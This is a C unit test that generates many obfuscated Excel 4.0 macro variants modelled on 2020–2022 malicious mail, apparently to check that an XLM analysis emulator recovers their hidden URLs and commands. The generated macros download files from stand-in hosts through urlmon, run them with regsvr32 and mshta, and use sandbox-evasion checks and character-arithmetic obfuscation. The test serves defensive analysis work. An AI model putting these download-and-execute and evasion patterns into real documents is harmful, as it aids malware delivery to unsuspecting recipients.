/* Generated variants of what mail of 2020 to 2022 carried: an address and a command in pieces, hidden by arithmetic on
 * characters, pieces in cells of other sheets, names, code that writes code, keys that hang on the day or the country, junk and
 * functions that nobody knows in between. Each must reach its addresses and its command exactly. */
#include "unit/test.h"

#include <stdio.h>
#include <string.h>

#include "make/xlm.h"

#define VARIANTS 150

struct variant {
    make_xlm *m;
    uint32_t random;
    unsigned row;  /* of the next statement in column A of Macro1 */
    unsigned data; /* of the next cell of Sheet1 */
    bool day_key;
};

static uint32_t next(struct variant *v, uint32_t most) /* xorshift32 (Marsaglia 2003) */
{
    v->random ^= v->random << 13;
    v->random ^= v->random >> 17;
    v->random ^= v->random << 5;
    return v->random % most;
}

static void statement(struct variant *v, sk_bytes formula)
{
    char address[16];
    snprintf(address, sizeof address, "A%u", v->row);
    make_xlm_cell(v->m, "Macro1", address, sk_arena_string(v->m->arena, formula));
    v->row += 1 + next(v, 4); /* gaps are skipped */
}

static void statement_text(struct variant *v, const char *text) { statement(v, sk_bytes_str(text)); }

static void junk(struct variant *v)
{
    static const char *const texts[] = {"=1+2*3",
                                        "=NO.SUCH.THING(A1,\"x\")",
                                        "=IF(1>2,HALT(),)",
                                        "=SET.NAME(\"zz\",CHAR(66)&\"q\")",
                                        "=ECHO(FALSE)",
                                        "just text",
                                        "=APP.MAXIMIZE()",
                                        "=WORKBOOK.HIDE(\"Macro1\",TRUE)",
                                        "=ERROR(FALSE)",
                                        "=SIN(3)&RAND()",
                                        "=GET.CELL(17,A1)+GET.CELL(19,A1)",
                                        "=IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)",
                                        "=IF(GET.WORKSPACE(19),,CLOSE(TRUE))",
                                        "=WAIT(NOW()+\"00:00:03\")"};
    statement_text(v, texts[next(v, SK_COUNT(texts))]);
}

static void write_quoted(sk_buf *out, sk_bytes s)
{
    sk_buf_byte(out, '"');
    for (size_t i = 0; i < s.len; i++) {
        if (s.p[i] == '"') sk_buf_byte(out, '"');
        sk_buf_byte(out, s.p[i]);
    }
    sk_buf_byte(out, '"');
}

/* A text in a cell of Sheet1, which the expression then names. */
static void write_cell(struct variant *v, sk_buf *out, const char *text)
{
    char address[16];
    unsigned n = v->data++;
    snprintf(address, sizeof address, "%c%u", 'C' + (char)(n % 20), n * 7 % 900 + n + 1);
    make_xlm_cell(v->m, "Sheet1", address, text);
    sk_buf_format(out, n % 2 ? "Sheet1!$%c$%s" : "Sheet1!%c%s", address[0], address + 1);
}

static void write_chars(struct variant *v, sk_buf *out, sk_bytes s)
{
    for (size_t i = 0; i < s.len; i++) {
        unsigned key = next(v, 50), how = next(v, v->day_key ? 4 : 3);
        if (i > 0) sk_buf_byte(out, '&');
        if (how == 0) sk_buf_format(out, "CHAR(%u)", s.p[i]);
        if (how == 1) sk_buf_format(out, "CHAR(%u-%u)", s.p[i] + key, key);
        if (how == 2) sk_buf_format(out, "CHAR(%u*%u/%u)", s.p[i], key + 1, key + 1);
        if (how == 3) sk_buf_format(out, "CHAR(%u-key)", s.p[i] + 23u);
    }
}

/* One piece of a text as an expression. */
static void write_piece(struct variant *v, sk_buf *out, sk_bytes s)
{
    sk_buf b = sk_buf_new(v->m->arena, 4096);
    switch (next(v, 8)) {
    case 0: write_quoted(out, s); break;
    case 1: write_chars(v, out, s); break;
    case 2:
        sk_buf_str(&b, "q~");
        sk_buf_bytes(&b, s);
        sk_buf_str(&b, "zz");
        sk_buf_str(out, "MID(");
        write_quoted(out, sk_buf_view(&b));
        sk_buf_format(out, ",3,%u)", (unsigned)s.len);
        break;
    case 3:
        sk_buf_str(&b, "_");
        sk_buf_bytes(&b, s); /* an underline keeps numbers texts */
        sk_buf_str(out, "RIGHT(");
        write_cell(v, out, sk_arena_string(v->m->arena, sk_buf_view(&b)));
        sk_buf_format(out, ",%u)", (unsigned)s.len);
        break;
    case 4:
        for (size_t i = 0; i < s.len; i++) sk_buf_format(&b, "%c~", s.p[i]);
        sk_buf_str(out, "SUBSTITUTE(");
        write_quoted(out, sk_buf_view(&b));
        sk_buf_str(out, ",\"~\",\"\")");
        break;
    case 5:
        sk_buf_format(&b, "=SET.NAME(\"nm_%u\",", v->row);
        write_quoted(&b, s);
        sk_buf_byte(&b, ')');
        sk_buf_format(out, "nm_%u", v->row);
        statement(v, sk_buf_view(&b));
        break;
    case 6:
        sk_buf_str(out, "CHOOSE(2,\"no\",");
        write_quoted(out, s);
        sk_buf_str(out, ",1/0)");
        break;
    default:
        sk_buf_str(out, "INDEX({\"a\";");
        write_quoted(out, s);
        sk_buf_str(out, "},2)");
    }
}

/* A text as an expression of pieces. */
static sk_bytes hide(struct variant *v, const char *text)
{
    sk_buf out = sk_buf_new(v->m->arena, 1u << 16);
    sk_bytes rest = sk_bytes_str(text);
    while (rest.len) {
        size_t len = 1 + next(v, 9);
        if (out.len) sk_buf_byte(&out, '&');
        write_piece(v, &out, sk_slice(rest, 0, len));
        rest = sk_from(rest, len);
    }
    return sk_buf_view(&out);
}

/* A statement as it is, or written by FORMULA into a cell further down and reached by GOTO or RUN, or just by going on. */
static void act(struct variant *v, const char *text)
{
    sk_buf out = sk_buf_new(v->m->arena, 1u << 17);
    if (next(v, 3) == 0) {
        statement_text(v, text);
        return;
    }
    sk_bytes hidden = hide(v, text);
    sk_buf_format(&out, next(v, 2) ? "=FORMULA(%.*s,A%u)" : "=FORMULA.FILL(%.*s,A%u)", (int)hidden.len,
                  (const char *)hidden.p, v->row + 20);
    statement(v, sk_buf_view(&out));
    v->row = v->row + 25;
}

/* CALL of a download, with text arguments hidden in expressions of their own. */
static void download(struct variant *v, const char *url)
{
    sk_buf out = sk_buf_new(v->m->arena, 1u << 17);
    sk_bytes library = hide(v, "urlmon"), function = hide(v, "URLDownloadToFileA"), address = hide(v, url);
    sk_buf_format(&out, "=CALL(%.*s,%.*s,\"JJCCJJ\",0,%.*s,\"C:\\Users\\Public\\x.ocx\",0,0)", (int)library.len,
                  (const char *)library.p, (int)function.len, (const char *)function.p, (int)address.len,
                  (const char *)address.p);
    statement(v, sk_buf_view(&out));
}

static void build(struct variant *v, uint32_t seed)
{
    v->m = make_xlm_new();
    v->random = seed * 2654435761u | 1;
    v->row = 1;
    v->day_key = seed % 3 == 0;
    junk(v);
    if (v->day_key) statement_text(v, "=SET.NAME(\"key\",DAY(NOW())+6)"); /* 17 + 6: made for the 17th */
    if (seed % 5 == 0) statement_text(v, "=IF(INDEX(GET.WORKSPACE(37),1,2)<>81,CLOSE(FALSE),)");
    if (seed % 7 == 0) statement_text(v, "=GOTO(A40)");
    if (seed % 7 == 0) v->row = 40;
    download(v, "http://one.example/wp-content/aa/");
    junk(v);
    download(v, "https://two.example/b/?c=d");
    junk(v);
    act(v, "=EXEC(\"C:\\Windows\\SysWow64\\regsvr32.exe -s C:\\Users\\Public\\x.ocx\")");
    junk(v);
    act(v, "=EXEC(\"mshta http://0xC0000201/fer/fe1.html\")");
    statement_text(v, "=RETURN()");
}

static void variants_reach_their_end(void **state)
{
    (void)state;
    static const char *const wanted[] = {"url=http://one.example/wp-content/aa/", "url=https://two.example/b/?c=d",
                                         "run command=C:\\Windows\\SysWow64\\regsvr32.exe -s C:\\Users\\Public\\x.ocx",
                                         "run command=mshta http://0xC0000201/fer/fe1.html"};
    unsigned failed = 0;
    for (uint32_t seed = 1; seed <= VARIANTS; seed++) {
        struct variant v = {.m = NULL};
        build(&v, seed);
        const char *told = make_xlm_run(v.m);
        bool all = true;
        for (size_t i = 0; i < SK_COUNT(wanted); i++) all = all && strstr(told, wanted[i]);
        if (!all) print_message("variant %u told:\n%s\n", seed, told);
        failed += !all;
        make_xlm_free(v.m);
    }
    assert_int_equal(failed, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(variants_reach_their_end)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
